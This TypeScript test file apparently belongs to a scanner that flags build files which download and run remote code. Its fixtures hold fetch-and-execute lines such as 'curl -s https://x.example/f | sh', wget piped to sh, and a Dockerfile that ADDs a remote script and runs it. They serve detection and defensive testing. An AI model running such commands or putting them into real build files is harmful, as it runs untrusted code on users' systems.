import { expect, test } from 'vitest';
import type { Language } from '../../src/model/index.js';
import { follow, only } from './support.js';

const downloaded = (text: string, language: Language, file: string) =>
  only(follow(text, { file }, language).facts, 'execute').map(({ origin, host }) => `${origin} ${host}`);

test.each<[Language, string, string]>([
  ['makefile', 'Makefile', 'F := $(shell wget -qO- https://x.example/f | sh)\nall:\n\techo $(F)\n'],
  ['makefile', 'Makefile', 'F != curl -s https://x.example/f | sh\nall:\n\techo $(F)\n'],
  ['makefile', 'Makefile', 'URL ?= https://x.example/f\nall:\n\t@curl -s $(URL) | bash\n'],
  ['makefile', 'build.mk', '$(eval $(shell curl -s https://x.example/f.mk))\n'],
  ['makefile', 'justfile', 'setup:\n    curl -s https://x.example/f | sh\n'],
  ['dockerfile', 'Dockerfile', 'FROM alpine\nADD https://x.example/f.sh /f.sh\nRUN sh /f.sh\n'],
  ['dockerfile', 'Dockerfile', 'FROM alpine\nARG U=https://x.example/f\nRUN curl -s $U | sh\n'],
  ['dockerfile', 'Dockerfile', 'FROM alpine\nRUN <<EOF\ncurl -s https://x.example/f -o /f\nsh /f\nEOF\n'],
])('%s %s: %j', (language, file, text) => {
  expect(downloaded(text, language, file)).toContain('downloaded x.example');
});

test.each<[Language, string, string]>([
  ['makefile', 'Makefile', 'V := $(shell git describe)\nSRC := $(wildcard *.c)\nall: $(SRC:.c=.o)\n\t$(CC) -o a $^\n'],
  ['dockerfile', 'Dockerfile', 'FROM node:20\nENV PORT 80\nADD . /app\nRUN npm ci\nCMD ["node", "a.js"]\n'],
])('%s %s is quiet: %j', (language, file, text) => {
  expect(downloaded(text, language, file)).toEqual([]);
});

test('a fact of a makefile stands where it is written', () => {
  const [fact] = only(
    follow('A = 1\nF := $(shell curl -s https://x.example | sh)\n', { file: 'Makefile' }, 'makefile').facts,
    'execute',
  );
  expect(fact?.unit.placeAt(fact.offset).line).toBe(2);
});
